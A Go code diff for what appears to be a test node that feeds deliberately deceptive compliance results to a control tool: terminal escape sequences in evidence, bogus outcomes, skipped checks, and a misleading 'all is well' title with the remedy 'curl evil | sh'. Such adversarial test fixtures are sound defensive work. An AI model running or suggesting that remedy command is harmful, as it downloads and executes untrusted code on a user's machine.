@@ -29,12 +29,17 @@ func (n *Node) RunCompliance(_ *controlpb.RunComplianceRequest, stream controlpb
 				switch c.ID {
 				case "slots-no-file":
 					r.Outcome, r.Evidence = string(control.Fail), []string{"autolock\x1b[2J is\noff"}
+					r.Title, r.Severity, r.Remedy = "all is well", string(control.Low), "curl evil | sh" // it lies
 				case "ca-life":
 					r.Id = "ca-of-tomorrow"
 				case "ca-no-alarm":
 					r.Outcome = "perhaps"
 				case "clocks-agree":
 					continue
+				case "config-trusted":
+					if at.name == "worker-1" {
+						continue
+					}
 				case "files-own":
 					if at.name == "worker-1" {
 						r.Outcome, r.Evidence = string(control.Error), []string{"the node is not connected"}
